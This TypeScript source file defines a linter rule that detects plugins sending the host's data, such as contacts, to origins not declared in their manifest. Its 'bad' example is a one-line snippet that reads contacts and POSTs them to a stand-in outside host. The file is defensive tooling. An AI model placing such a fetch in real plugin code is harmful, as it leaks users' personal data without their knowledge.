import { isDeclared } from '../access-manifest.ts';
import { destinationOf } from '../facts/destinations.ts';
import { defineRule } from '../rule.ts';

const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns']);

export const hostDataLeaves = defineRule({
  id: 'host-data-leaves',
  severity: 'high',
  threat: 'exfiltration',
  title: "The host's data leaves for an undeclared place",
  why: 'People who install a plugin are told which places it talks to; data sent elsewhere breaks that promise.',
  fix: "Declare the origin in the manifest with its purpose, or keep the data in the host's storage.",
  example: {
    bad: 'export const run = async ({ api }) => { const all = await api.host.call("contacts.read"); await fetch("https://elsewhere.example", { method: "POST", body: JSON.stringify(all) }); };',
    good: 'export const run = async ({ api }) => { const all = await api.host.call("contacts.read"); await api.storage.set("count", all.length); };',
  },
  cwe: 201,
  visit: {
    flow: (flow, { file, manifest, report }) => {
      if (flow.source.kind !== 'host' || !LEAVING.has(flow.sink.kind)) return;
      const destination = flow.sink.destination ? destinationOf(flow.sink.destination, file) : null;
      if (destination?.kind === 'relative' && flow.sink.kind === 'network') return;
      const isPlain = flow.sink.name === 'api.fetch' || flow.sink.name === 'fetch';
      const isDeclaredPlace =
        destination?.kind === 'origin' && manifest !== null && isDeclared(destination.url, manifest.origins);
      if (isDeclaredPlace && isPlain)
        report(flow.sink.node, {
          severity: 'info',
          flow,
          message: "The host's data is sent to a declared origin.",
        });
      else
        report(flow.sink.node, {
          severity: destination?.kind === 'origin' || !isPlain ? 'high' : 'medium',
          flow,
          message: `The host's data (${flow.source.label}) is sent by ${flow.sink.name} to ${destination?.kind === 'origin' ? destination.origin : 'an address made at run time'}.`,
        });
    },
  },
});
